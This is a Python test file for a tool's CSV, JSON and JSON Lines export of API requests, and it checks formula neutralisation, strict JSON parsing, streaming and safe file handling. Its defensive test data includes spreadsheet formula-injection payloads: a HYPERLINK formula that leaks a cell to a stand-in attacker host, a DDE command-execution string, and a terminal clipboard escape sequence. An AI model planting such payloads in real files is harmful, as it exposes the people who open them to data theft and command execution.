"""Tests for exporting requests to CSV, JSON and JSON Lines files.

The format tests read hostile data from the in-memory fake API and parse the
file back with ``csv`` and ``json`` (and ``jq`` when it is installed); the
streaming test exports the simulator's 237-request history page by page and
watches the file grow between pages.
"""

from __future__ import annotations

import asyncio
import csv
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from chamelaion_tui.api import (
    ChamelaionClient,
    ExportError,
    ServerError,
    export_requests,
)
from chamelaion_tui.api.export import CSV_COLUMNS, neutralise_formula
from chamelaion_tui.api.models import FIELDS
from chamelaion_tui.simulator import ManualClock, World, run_simulator
from tests.fake_api import FakeApi, make_request

EPOCH = datetime(2026, 12, 4, 9, 0, 0, tzinfo=UTC)

HOSTILE_MESSAGES = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\tindented",
    "\rreturn",
    "\x1b]52;c;aGk=\x07clipboard",
    "line one\nline two",
    "ünïcödé ✓ 批次",
]


def hostile_api() -> FakeApi:
    """A fake API whose batch carries formulas, escapes and extra fields."""
    items = [
        make_request(n, "failed", "batch-x", error_message=message)
        for n, message in enumerate(HOSTILE_MESSAGES, start=1)
    ]
    items.append(
        make_request(
            50,
            "completed",
            "batch-x",
            priority=3,
            tags=["a", "=b"],
        )
    )
    items.append(make_request(51, "queued", "=cmd"))
    items.append(make_request(52, "completed", "other-batch"))
    return FakeApi(items=items)


async def export(
    api: FakeApi, path: Path, fmt: Any, reference_id: str | None = "batch-x"
) -> Any:
    """Export through a client of ``api`` and return the result."""
    async with api.client() as client:
        return await export_requests(
            client, path, reference_id=reference_id, fmt=fmt, page_size=4
        )


def listing(folder: Path) -> list[str]:
    """The names in ``folder``, sorted."""
    return sorted(path.name for path in folder.iterdir())


def strict_json(text: str) -> Any:
    """Parse JSON as ``jq`` would: NaN and Infinity are not JSON."""

    def refuse(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


async def test_csv_parses_back_with_formulas_neutralised(tmp_path: Path) -> None:
    """Every cell a spreadsheet would run starts with a quote; the header has
    every documented field and the extras as JSON."""
    result = await export(hostile_api(), tmp_path / "batch.csv", "csv")
    assert (result.path, result.count, result.fmt) == (
        tmp_path / "batch.csv",
        10,
        "csv",
    )

    raw = result.path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\x1b" not in raw
    with result.path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == 10

    messages = [row["error_message"] for row in rows[: len(HOSTILE_MESSAGES)]]
    assert messages == [
        "'" + HOSTILE_MESSAGES[0],
        "'" + HOSTILE_MESSAGES[1],
        "'-2+3",
        "'@SUM(1,1)",
        "␉indented",
        "␍return",
        "␛]52;c;aGk=␇clipboard",
        "line one\nline two",
        "ünïcödé ✓ 批次",
    ]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    extra = json.loads(rows[9]["extra"])
    assert extra == {"priority": 3, "tags": ["a", "=b"]}
    assert rows[0]["extra"] == ""
    assert rows[0]["created_at"] == "2026-12-04T10:01:00Z"
    assert rows[9]["output_url"] == "https://storage.example/output/50.mp4"


def test_neutralise_formula() -> None:
    """Only the first character matters, and only the dangerous ones."""
    assert neutralise_formula("=1+1") == "'=1+1"
    assert neutralise_formula("a=1") == "a=1"
    assert neutralise_formula("") == ""


async def test_json_is_one_array_with_exact_data(tmp_path: Path) -> None:
    """JSON parses strictly, keeps the data exactly, and is plain ASCII."""
    result = await export(hostile_api(), tmp_path / "batch.json", "json")
    text = result.path.read_text(encoding="ascii")
    records = strict_json(text)
    assert isinstance(records, list)
    assert len(records) == result.count == 10
    assert [r["error_message"] for r in records[:9]] == HOSTILE_MESSAGES
    for record in records:
        assert list(record)[: len(FIELDS)] == list(FIELDS)
    assert records[9]["priority"] == 3
    assert records[9]["started_at"] == "2026-12-04T10:50:05Z"
    assert records[0]["output_url"] is None


async def test_jsonl_is_one_object_per_line(tmp_path: Path) -> None:
    """Each line is a complete object; newlines in data are escaped."""
    result = await export(hostile_api(), tmp_path / "batch.jsonl", "jsonl")
    lines = result.path.read_text(encoding="ascii").splitlines()
    assert len(lines) == 10
    records = [strict_json(line) for line in lines]
    assert records[7]["error_message"] == "line one\nline two"
    assert {r["reference_id"] for r in records} == {"batch-x"}


async def test_numbers_json_lacks_are_written_as_strings(tmp_path: Path) -> None:
    """The API's parser accepts NaN and Infinity; the files must not hold them."""
    body = (
        b'{"data": [{"id": "n1", "status": "completed", "score": NaN,'
        b' "limits": [Infinity, -Infinity, 1.5]}],'
        b' "pagination": {"limit": 4, "offset": 0, "total": 1}}'
    )
    api = FakeApi()
    api.override = lambda request: httpx.Response(200, content=body)
    record = strict_json(
        (await export(api, tmp_path / "n.jsonl", "jsonl")).path.read_text()
    )
    assert record["score"] == "nan"
    assert record["limits"] == ["inf", "-inf", 1.5]
    with (await export(api, tmp_path / "n.csv", "csv")).path.open(
        encoding="utf-8-sig", newline=""
    ) as handle:
        (row,) = csv.DictReader(handle)
    assert strict_json(row["extra"]) == {"limits": ["inf", "-inf", 1.5], "score": "nan"}


async def test_empty_batch(tmp_path: Path) -> None:
    """No requests: valid empty files, the CSV with its header."""
    api = FakeApi()
    assert (
        strict_json((await export(api, tmp_path / "e.json", "json")).path.read_text())
        == []
    )
    assert (await export(api, tmp_path / "e.jsonl", "jsonl")).path.read_text() == ""
    csv_file = (await export(api, tmp_path / "e.csv", "csv")).path
    csv_text = csv_file.read_bytes().decode("utf-8-sig")
    assert csv_text == ",".join(CSV_COLUMNS) + "\r\n"


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed")
@pytest.mark.parametrize(
    ("fmt", "options"), [("json", []), ("jsonl", ["--slurp"])], ids=["json", "jsonl"]
)
async def test_jq_reads_the_json_formats(
    fmt: str, options: list[str], tmp_path: Path
) -> None:
    """The files open in jq, as the issue asks."""
    result = await export(hostile_api(), tmp_path / f"b.{fmt}", fmt)
    jq = await asyncio.create_subprocess_exec(
        shutil.which("jq") or "jq",
        *options,
        "length",
        str(result.path),
        stdout=asyncio.subprocess.PIPE,
    )
    out, _ = await asyncio.wait_for(jq.communicate(), timeout=30)
    assert (jq.returncode, out.strip()) == (0, b"10")


async def test_history_is_streamed_page_by_page(tmp_path: Path) -> None:
    """237 requests in pages of 50: the file grows after every page, before
    the export ends, and holds every request once."""
    clock = ManualClock()
    world = World(clock=clock, history=237, arrivals=False, epoch=EPOCH)
    path = tmp_path / "history.jsonl"
    seen: list[tuple[int, int, int]] = []

    def progress(written: int, total: int) -> None:
        (temporary,) = tmp_path.glob(".history.jsonl.*.tmp")
        seen.append((written, total, temporary.stat().st_size))
        assert not path.exists()

    async with run_simulator(world=world) as sim:
        async with ChamelaionClient(sim.base_url, sim.api_key) as client:
            result = await export_requests(
                client,
                path,
                reference_id=None,
                fmt="jsonl",
                on_progress=progress,
                page_size=50,
            )
        assert sim.stats.requests("list") == 5

    assert [(w, t) for w, t, _ in seen] == [
        (50, 237),
        (100, 237),
        (150, 237),
        (200, 237),
        (237, 237),
    ]
    sizes = [size for _, _, size in seen]
    assert sizes == sorted(set(sizes))
    assert sizes[0] > 0
    lines = path.read_text().splitlines()
    assert len(lines) == result.count == 237
    assert len({json.loads(line)["id"] for line in lines}) == 237
    assert listing(tmp_path) == [path.name]


async def test_never_overwrites(tmp_path: Path) -> None:
    """An existing file stays; the export goes to the next free name."""
    wanted = tmp_path / "batch.csv"
    wanted.write_text("precious")
    first = await export(hostile_api(), wanted, "csv")
    second = await export(hostile_api(), wanted, "csv")
    assert wanted.read_text() == "precious"
    assert first.path == tmp_path / "batch (2).csv"
    assert second.path == tmp_path / "batch (3).csv"


async def test_repeated_rows_across_pages_are_written_once(tmp_path: Path) -> None:
    """A submission during the export shifts rows; none is written twice."""
    api = FakeApi(items=[make_request(n) for n in range(10, 0, -1)])

    def shift(request: httpx.Request) -> httpx.Response | None:
        if request.url.params.get("offset") == "4":
            api.items.insert(0, make_request(99))
        return None

    api.override = shift
    result = await export(api, tmp_path / "b.jsonl", "jsonl", reference_id="batch-a")
    ids = [json.loads(line)["id"] for line in result.path.read_text().splitlines()]
    assert len(ids) == len(set(ids)) == 10


async def test_api_failure_leaves_no_file(tmp_path: Path) -> None:
    """An export that cannot finish leaves nothing behind, not half a file."""
    api = hostile_api()
    api.override = lambda request: (
        httpx.Response(500) if request.url.params.get("offset") == "4" else None
    )
    with pytest.raises(ServerError):
        await export(api, tmp_path / "b.json", "json")
    assert listing(tmp_path) == []


async def test_bad_arguments_and_missing_folder(tmp_path: Path) -> None:
    """An unknown format or page size is refused; a missing folder reported."""
    api = FakeApi()
    with pytest.raises(ValueError, match="format"):
        await export(api, tmp_path / "b.xml", "xml")
    async with api.client() as client:
        with pytest.raises(ValueError, match="page_size"):
            await export_requests(
                client, tmp_path / "b.csv", reference_id=None, fmt="csv", page_size=0
            )
    with pytest.raises(ExportError, match="cannot write"):
        await export(api, tmp_path / "missing" / "b.csv", "csv")
